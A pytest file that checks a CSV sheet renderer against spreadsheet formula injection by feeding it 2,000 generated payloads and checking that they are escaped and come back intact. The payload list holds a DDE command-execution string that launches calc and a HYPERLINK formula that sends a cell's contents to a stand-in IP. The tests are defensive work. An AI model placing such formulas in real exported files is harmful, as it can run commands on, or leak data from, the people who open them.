"""A sheet read back as a spreadsheet would read it, whichever separator that was told of."""

from __future__ import annotations

import csv
import io
import itertools
import random
import re

import pytest

from api.documents import sheet

SIGNS = "=+-@＝＋－＠"
SEPARATORS = ";\t\r\n"
BLANK = " \0\ufeff\u200b"
CALLS = ("cmd|' /C calc'!A0", "1+1", 'HYPERLINK("http://192.0.2.1/?"&A1)', "SUM(A1:A9)", "IMPORTXML(A1,B1)", "")
FRONTS = ("", "'", "''", " ", "\t", "\r", "\n", '"', '""', "a", "a;", "a;;", "a\t", "a\n", 'a;"', "a; '", "a,", "ä ")


def payloads() -> list[str]:
    """2 000 texts: every front before every sign and call, then mixtures drawn from their pieces."""
    fixed = ["".join(parts) for parts in itertools.product(FRONTS, (*SIGNS, "x"), CALLS)]
    draw = random.Random(19)
    pieces = [*FRONTS, *SIGNS, *CALLS, "mug", ",", "茶", *BLANK]
    return fixed + ["".join(draw.choices(pieces, k=draw.randint(1, 9))) for _ in range(2000 - len(fixed))]


def read(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode(), newline="")))


def unmarked(cell: str) -> str:
    """The text of a cell by the rule on the page for partners, from right to left."""
    text, leads = "", False
    for at in range(len(cell) - 1, -1, -1):
        each = cell[at]
        leads = each in SIGNS or (leads and (each.isspace() or each in ";'\"" + BLANK))
        marks = leads or (at == 0 and cell.lstrip("'")[:1] in ("\t", "\r", "\n"))
        if not (each == "'" and marks and (at == 0 or cell[at - 1] in SEPARATORS)):
            text = each + text
    return text


def test_two_thousand_payloads_come_back_as_they_were() -> None:
    texts = payloads()
    assert len(texts) == 2000
    _, *rows = read(sheet.render(("text", "number"), [(text, -number) for number, text in enumerate(texts)]))
    assert [unmarked(text) for text, _ in rows] == texts
    assert [int(number) for _, number in rows] == [-number for number in range(2000)]


def test_none_of_them_begins_a_cell_as_a_formula_or_a_break() -> None:
    _, *rows = read(sheet.render(("text",), [(text,) for text in payloads()]))
    assert [
        text for (text,) in rows if text.startswith(("\t", "\r", "\n")) or text.lstrip(BLANK).startswith(tuple(SIGNS))
    ] == []


def test_none_of_them_is_a_formula_to_a_spreadsheet_that_parts_cells_otherwise() -> None:
    content = sheet.render(("text", "number"), [(text, -1) for text in payloads()]).decode()
    cells = re.split(f"[{SEPARATORS}]", content)
    assert [cell for cell in cells if cell.lstrip('"' + BLANK).startswith(tuple(SIGNS))] == []


@pytest.mark.parametrize("text", ["two - one", "a@b.example", "2 + 2 = 4", "it's", "'tis", "a; b", "two\nlines"])
def test_text_that_is_no_formula_stays_as_it_is(text: str) -> None:
    assert read(sheet.render((), [(text,)]))[1:] == [[text]]


def test_numbers_stay_numbers_and_odd_text_survives() -> None:
    odd = ('say "hi", twice', "two\nlines", "naïve 茶", 'a,"b"')
    content = sheet.render(("text", "number", "degrees"), [(text, -3, -33.9) for text in odd])
    assert content.count(b"\r\n") == 5
    _, *rows = read(content)
    assert rows == [[text, "-3", "-33.9"] for text in odd]
